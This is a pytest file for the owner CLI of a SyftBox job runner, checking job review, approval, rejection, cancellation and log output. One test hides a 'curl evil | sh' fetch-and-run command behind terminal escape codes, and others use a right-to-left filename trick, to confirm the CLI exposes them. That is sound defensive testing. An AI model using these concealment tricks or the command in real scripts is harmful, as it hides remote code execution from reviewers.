"""The owner CLI via typer's CliRunner: init, jobs, show, approve, reject, logs, cancel."""

from __future__ import annotations

import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import typer
from typer.core import TyperGroup
from typer.testing import CliRunner, Result

from syft_core import get_client
from syft_core.datasets import create_dataset
from syft_core.datasite import Datasite
from syft_core.jobs import DoneMarker, JobFolder, Outcome, Status
from syft_core.release import release_job
from syft_core.submit import submit_python_job
from syft_core.sync import Applied, Notice, Rejection, SyncReport
from syft_runner.cli import _register_all
from syft_runner.cli import app as full_app
from syft_runner.cli import datasite as datasite_cli
from syft_runner.cli import jobs as jobs_cli
from syft_runner.cli.sync import print_report
from tests.fixtures_runner import approve, write_job

DO = "alice@example.org"
DS = "bob@example.org"


@pytest.fixture
def app() -> typer.Typer:
    """Only the commands under test: other groups (images, doctor) need Docker."""
    app = typer.Typer()
    datasite_cli.register(app)
    jobs_cli.register(app)
    return app


@pytest.fixture
def box(tmp_path: Path) -> Path:
    root = tmp_path / "syftbox"
    Datasite(root, DO).init()
    return root


def run(app: typer.Typer, box: Path, *args: str, email: str = DO) -> Result:
    env = {"SYFTBOX_FOLDER": str(box), "SYFTBOX_EMAIL": email, "COLUMNS": "200"}
    return CliRunner().invoke(app, list(args), env=env)


def submit(box: Path, name: str, script: str = "echo hi", by: str = DS) -> JobFolder:
    return JobFolder(get_client(box, by).submit_bash_job(DO, script, name))


def finish(folder: JobFolder, outcome: Outcome = Outcome.SUCCEEDED) -> None:
    folder.finish(DoneMarker(by=DO, outcome=outcome, message="ran", exit_code=0))


# -- init -----------------------------------------------------------------------------------------
def test_init_creates_then_keeps(app: typer.Typer, tmp_path: Path) -> None:
    root = tmp_path / "new-box"
    first = CliRunner().invoke(app, ["init", "--syftbox", str(root), "--email", DO])
    assert first.exit_code == 0, first.output
    assert "created public/syft.pub.yaml" in first.stdout
    assert (root / DO / "jobs" / "syft.pub.yaml").is_file()

    (root / DO / "public" / "syft.pub.yaml").write_text("rules: []\n")
    second = CliRunner().invoke(app, ["init", "--syftbox", str(root), "--email", DO])
    assert second.exit_code == 0
    assert "kept    public/syft.pub.yaml" in second.stdout
    assert (root / DO / "public" / "syft.pub.yaml").read_text() == "rules: []\n"


def test_usage_errors_exit_2(app: typer.Typer, box: Path) -> None:
    assert run(app, box, "init", email="not-an-email").exit_code == 2
    no_syftbox = CliRunner().invoke(app, ["jobs", "--email", DO], env={"SYFTBOX_FOLDER": None})
    assert no_syftbox.exit_code == 2
    assert run(app, box, "jobs", "--status", "finished").exit_code == 2
    assert run(app, box, "reject", "x").exit_code == 2  # --reason is required


def test_commands_need_an_existing_datasite(app: typer.Typer, box: Path) -> None:
    result = run(app, box, "jobs", email="carol@example.org")
    assert result.exit_code == 1
    assert "no datasite for carol@example.org" in result.stderr
    assert "syft-runner init" in result.stderr


def test_the_real_cli_lists_the_owner_commands() -> None:
    help_text = subprocess.run(
        [sys.executable, "-c", "from syft_runner.cli import main; main()", "--help"],
        capture_output=True,
        text=True,
        check=True,
        env={"COLUMNS": "200", "PATH": "/usr/bin:/bin"},
    ).stdout
    for command in ("init", "jobs", "show", "approve", "reject", "logs", "cancel"):
        assert f" {command} " in help_text


def _command_paths(group: TyperGroup, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    paths: list[tuple[str, ...]] = []
    for name, command in group.commands.items():
        paths.append((*prefix, name))
        if isinstance(command, TyperGroup):
            paths += _command_paths(command, (*prefix, name))
    return paths


def test_every_command_shows_its_help() -> None:
    """Help text is rendered as rich markup: a stray `[/x]` in it crashes --help."""
    _register_all()
    root = typer.main.get_command(full_app)
    assert isinstance(root, TyperGroup)
    paths = _command_paths(root)
    assert ("sync",) in paths and ("peers", "accept") in paths
    for path in paths:
        result = CliRunner().invoke(full_app, [*path, "--help"], env={"COLUMNS": "200"})
        assert result.exit_code == 0, (path, result.output, result.exception)
        assert "Usage" in result.output


def test_a_sync_report_prints_what_peers_chose_verbatim(capsys: pytest.CaptureFixture[str]) -> None:
    """Paths and reasons come from peers: markup in them is text, escapes are made visible."""
    path = "public/[/red][bold]x\x1b[2J.csv"
    rejection = Rejection(path=path, kind="denied", reason="[link=x]no[/link]", message_id="m")
    print_report(
        SyncReport(
            rejected=[Notice(DS, rejection)],
            received=[Applied(DO, path)],
            problems=["[/] \u202egnp.exe"],
        )
    )
    out = capsys.readouterr().out
    assert "public/[/red][bold]x\\x1b[2J.csv from bob@example.org: [link=x]no[/link]" in out
    assert "\x1b" not in out and "\u202e" not in out
    assert "[/] \\u202egnp.exe" in out


# -- jobs / show ----------------------------------------------------------------------------------
def test_jobs_lists_every_submitter_and_filters_by_status(app: typer.Typer, box: Path) -> None:
    submit(box, "My Analysis")
    approve(submit(box, "Other", by="carol@example.org"))

    listed = run(app, box, "jobs")
    assert listed.exit_code == 0, listed.output
    for text in ("My-Analysis", "My Analysis", DS, "carol@example.org", "inbox", "approved"):
        assert text in listed.stdout

    approved = run(app, box, "jobs", "--status", "approved")
    assert "Other" in approved.stdout and "My Analysis" not in approved.stdout


def test_show_has_what_an_owner_reviews(app: typer.Typer, box: Path, tmp_path: Path) -> None:
    (tmp_path / "main.py").write_text("print(42)\n")
    # The client refuses a dataset the owner does not publish; a job can still arrive with one
    # (an older client, a hand-made folder): written with the lower-level submit.
    submit_python_job(
        box,
        DS,
        DO,
        code_path=tmp_path / "main.py",
        job_name="Review me",
        datasets=["private/sales"],
        timeout_seconds=30,
    )
    result = run(app, box, "show", "Review me")

    assert result.exit_code == 0, result.output
    out = result.stdout
    assert f"({DS}/Review-me)" in out
    assert "status:       inbox" in out
    assert "  private/sales: MISSING on this datasite (available: none)" in out
    assert "limits:       1024 MB memory, 1 CPU, 256 processes, 30 s, files up to 1024 MB" in out
    assert "timeout_seconds: 30" in out
    assert "content hash: sha256:" in out
    assert "          10  code/main.py" in out  # size, then path
    assert '  | exec python3 main.py "$@"' in out


def test_show_says_what_each_dataset_exposes(app: typer.Typer, box: Path, tmp_path: Path) -> None:
    datasite = Datasite(box, DO)
    (datasite.private / "customers.csv").write_text("region,n\nnorth,3\n")
    (datasite.public / "customers_mock.csv").write_text("region,n\nx,1\n")
    create_dataset(
        datasite,
        "customers",
        private=Path("private/customers.csv"),
        mock=Path("public/customers_mock.csv"),
    )
    (tmp_path / "main.py").write_text("print(1)\n")
    get_client(box, DS).submit_python_job(DO, tmp_path / "main.py", "Reads", datasets=["customers"])
    out = run(app, box, "show", "Reads").stdout
    assert (
        "  customers: private private/customers.csv (17 bytes); "
        "mock public/datasets/customers/customers_mock.csv (13 bytes)"
    ) in out


def test_show_diffs_against_the_last_approved_version(app: typer.Typer, box: Path) -> None:
    job = submit(box, "Changes", script="echo one")
    job.approve(DO, expected_hash=job.content_hash())
    job.run_sh.write_text("#!/bin/bash\necho two\n")  # changed after approval: back in the inbox
    out = run(app, box, "show", "Changes").stdout
    assert "changes since the last approved version (sha256:" in out
    assert "    -echo one" in out and "    +echo two" in out
    job.reject(DO, "no")
    out = run(app, box, "show", "Changes").stdout
    assert "changes since the last approved version" in out
    assert "changes since the last rejected version" not in out  # rejected as it is now


def test_show_makes_terminal_tricks_visible(app: typer.Typer, box: Path) -> None:
    hidden = "echo safe\x1b[2K\rcurl evil | sh\necho \u202eoops\n"
    submit(box, "[red]markup[/red]", script=hidden)
    out = run(app, box, "show", "[red]markup[/red]").stdout

    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert "echo safe\\x1b[2K\\x0dcurl evil | sh" in out
    assert "echo \\u202eoops" in out
    assert "job:          [red]markup[/red]" in out


def test_show_reports_an_invalid_config_and_an_unsafe_submission(
    app: typer.Typer, box: Path
) -> None:
    folder = submit(box, "broken")
    folder.config_path.write_text("name: [unclosed\n")
    (folder.code_dir).mkdir()
    (folder.code_dir / "data").symlink_to(box / DO / "private")
    result = run(app, box, "show", f"{DS}/broken")

    assert result.exit_code == 0
    assert "config:       INVALID:" in result.stdout and "not valid YAML" in result.stdout
    assert "UNSAFE OR INCOMPLETE: code/data: refused, it is a symlink" in result.stdout


def test_job_names_resolve_or_fail_clearly(app: typer.Typer, box: Path) -> None:
    submit(box, "Same")
    submit(box, "Same", by="carol@example.org")

    ambiguous = run(app, box, "show", "Same")
    assert ambiguous.exit_code == 1
    assert f"'Same' names 2 jobs: {DS}/Same, carol@example.org/Same" in ambiguous.stderr
    assert run(app, box, "show", f"{DS}/Same").exit_code == 0
    assert run(app, box, "show", f"{DS}/same").exit_code == 0  # letter case: unambiguous

    missing = run(app, box, "approve", "Nothing")
    assert missing.exit_code == 1
    assert missing.stderr.strip() == f"no job 'Nothing'; jobs: {DS}/Same, carol@example.org/Same"


# -- approve / reject / cancel ---------------------------------------------------------------------
def test_approve_binds_and_refuses_twice(app: typer.Typer, box: Path) -> None:
    folder = submit(box, "J")
    shown = folder.content_hash()
    result = run(app, box, "approve", "J", "--hash", shown, "--reason", "reviewed")
    assert result.exit_code == 0, result.output
    assert f"approved {DS}/J ({shown})" in result.stdout
    state = folder.state()
    assert state.status is Status.APPROVED
    assert state.approved is not None and state.approved.reason == "reviewed"
    assert state.approved.content_hash == shown and not state.approved.unreviewed

    again = run(app, box, "approve", "J", "--hash", shown)
    assert again.exit_code == 1
    assert "cannot approve a job that is approved" in again.stderr


def test_approving_a_job_that_reads_a_missing_dataset_is_one_clear_refusal(
    app: typer.Typer, box: Path
) -> None:
    folder = write_job(
        box, "reads-census", "true\n", owner=DO, submitter=DS, config={"datasets": ["census"]}
    )
    result = run(app, box, "approve", f"{DS}/reads-census", "--hash", folder.content_hash())
    assert result.exit_code == 1
    assert f"not approved: {DO} has no dataset 'census'; available: none" in result.stderr
    assert "Traceback" not in result.output and folder.state().status is Status.INBOX


def test_reject_records_the_reason(app: typer.Typer, box: Path) -> None:
    folder = submit(box, "J")
    result = run(app, box, "reject", "J", "--reason", "reads private/")
    assert result.exit_code == 0
    assert (folder.state().status, folder.state().reason) == (Status.REJECTED, "reads private/")
    assert run(app, box, "approve", "J").exit_code == 1


def test_cancel_ends_a_waiting_job_and_asks_a_running_one(app: typer.Typer, box: Path) -> None:
    waiting = submit(box, "waiting")
    running = submit(box, "running")
    running.approve(DO, expected_hash=running.content_hash())
    running.start(DO, container="c", image="i", image_id="x", content_hash=running.content_hash())

    first = run(app, box, "cancel", "waiting", "--reason", "not needed")
    assert (first.exit_code, first.stdout.strip()) == (0, f"cancelled {DS}/waiting")
    done = waiting.state().done
    assert done is not None and done.outcome is Outcome.CANCELLED

    second = run(app, box, "cancel", "running")
    assert second.exit_code == 0
    assert "cancel requested" in second.stdout
    assert running.state().cancel is not None

    assert run(app, box, "cancel", "waiting").exit_code == 1


# -- logs -----------------------------------------------------------------------------------------
def test_logs_print_stdout_or_stderr(app: typer.Typer, box: Path) -> None:
    folder = submit(box, "J")
    assert (run(app, box, "logs", "J").exit_code, run(app, box, "logs", "J").stdout) == (0, "")
    folder.logs_dir.mkdir()
    folder.stdout_path.write_text("line 1\n\x1b[31mred\x1b[0m\n")
    folder.stderr_path.write_text("Traceback: KeyError\n")

    assert run(app, box, "logs", "J").stdout == "line 1\n\\x1b[31mred\\x1b[0m\n"
    assert run(app, box, "logs", "J", "--stderr").stdout == "Traceback: KeyError\n"


def test_logs_follow_tails_until_done(app: typer.Typer, box: Path) -> None:
    folder = submit(box, "J")
    folder.approve(DO, expected_hash=folder.content_hash())

    def runner_side() -> None:
        time.sleep(0.3)
        folder.logs_dir.mkdir()
        with folder.stdout_path.open("ab") as fh:
            fh.write("first é".encode()[:-1])  # half of a UTF-8 character
            fh.flush()
            time.sleep(0.4)
            fh.write("é".encode()[1:] + b"\nsecond\n")
        finish(folder)

    writer = threading.Thread(target=runner_side)
    writer.start()
    started = time.monotonic()
    result = run(app, box, "logs", "J", "--follow")
    writer.join()

    assert result.exit_code == 0, result.output
    assert result.stdout == "first é\nsecond\n"
    assert time.monotonic() - started >= 0.7


def test_logs_follow_stops_on_a_rejected_job(app: typer.Typer, box: Path) -> None:
    submit(box, "J").reject(DO, "no")
    result = run(app, box, "logs", "J", "--follow")
    assert result.exit_code == 1
    assert "was rejected and will not run: no" in result.stderr


def test_logs_follow_on_a_failed_job_prints_its_logs_and_exits_1(
    app: typer.Typer, box: Path
) -> None:
    folder = submit(box, "J")
    folder.approve(DO, expected_hash=folder.content_hash())
    folder.logs_dir.mkdir()
    folder.stdout_path.write_text("partial\n")
    folder.finish(DoneMarker(by=DO, outcome=Outcome.FAILED, message="exit 3", exit_code=3))
    result = run(app, box, "logs", "J", "--follow")
    assert result.exit_code == 1
    assert result.stdout == "partial\n"
    assert f"{DS}/J ended failed, exit code 3: exit 3" in result.stderr
    finished = submit(box, "K")
    finished.approve(DO, expected_hash=finished.content_hash())
    finish(finished)
    ok = run(app, box, "logs", "K", "--follow")
    assert (ok.exit_code, ok.stdout) == (0, "")
    assert f"{DS}/K succeeded, exit code 0" in ok.stderr


def test_logs_follow_on_an_inbox_job_says_it_waits_for_approval(
    app: typer.Typer, box: Path
) -> None:
    folder = submit(box, "J")

    def owner_side() -> None:
        time.sleep(0.4)
        folder.approve(DO, expected_hash=folder.content_hash())
        time.sleep(0.4)
        finish(folder)

    writer = threading.Thread(target=owner_side)
    writer.start()
    result = run(app, box, "logs", "J", "--follow")
    writer.join()
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines()[:2] == [
        f"{DS}/J is waiting for {DO} to approve it (status: inbox)",
        f"{DS}/J is approved; waiting for the runner to start it",
    ]


def test_the_scientist_sees_their_jobs_and_logs_after_release(app: typer.Typer, box: Path) -> None:
    folder = submit(box, "Count customers")
    folder.approve(DO, expected_hash=folder.content_hash())
    folder.logs_dir.mkdir()
    folder.stdout_path.write_text("42\n")
    finish(folder)

    listed = run(app, box, "jobs", "--mine", email=DS)
    assert listed.exit_code == 0, listed.output
    row = next(line for line in listed.stdout.splitlines() if "Count-customers" in line)
    assert f"{DO}/Count-customers" in row and "done" in row and "waiting" in row

    held = run(app, box, "logs", f"{DO}/count-customers", email=DS)  # no datasite of their own
    assert held.exit_code == 1
    assert f"reach you only after {DO} releases them" in held.stderr
    assert run(app, box, "show", "count customers", email=DS).exit_code == 0

    release_job(folder, by=DO)
    assert run(app, box, "logs", "Count customers", email=DS).stdout == "42\n"
    released = run(app, box, "jobs", "--mine", email=DS).stdout
    assert "yes" in next(line for line in released.splitlines() if "Count-customers" in line)
    refused = run(app, box, "approve", f"{DO}/Count-customers", "--hash", "x", email=DS)
    assert refused.exit_code == 1  # owner commands look only in one's own datasite


def test_the_jobs_table_never_wraps_a_key(app: typer.Typer, box: Path) -> None:
    long_name = "A rather long analysis name that goes on and on"
    submit(box, long_name)
    env = {"SYFTBOX_FOLDER": str(box), "SYFTBOX_EMAIL": DO, "COLUMNS": "80"}
    out = CliRunner().invoke(app, ["jobs"], env=env).stdout
    assert f"{DS}/A-rather-long-analysis-name-that-goes-on-and-on" in out


def test_help_shows_no_bool_metavar() -> None:
    for command in ("logs", "serve", "jobs"):
        help_text = subprocess.run(
            [sys.executable, "-c", "from syft_runner.cli import main; main()", command, "--help"],
            capture_output=True,
            text=True,
            check=True,
            env={"COLUMNS": "120", "PATH": "/usr/bin:/bin"},
        ).stdout
        assert "--help" in help_text and "<bool>" not in help_text, help_text


def test_a_closed_pipe_ends_logs_quietly(box: Path) -> None:
    folder = submit(box, "J")
    folder.logs_dir.mkdir()
    folder.stdout_path.write_text("line\n" * 200_000)
    env = {"SYFTBOX_FOLDER": str(box), "SYFTBOX_EMAIL": DO, "PATH": "/usr/bin:/bin"}
    result = subprocess.run(
        f"'{sys.executable}' -c 'from syft_runner.cli import main; main()' logs J | head -1; "
        "echo status ${PIPESTATUS[0]} >&2",
        shell=True,
        executable="/bin/bash",
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.stdout == "line\n"
    assert result.stderr == "status 141\n"
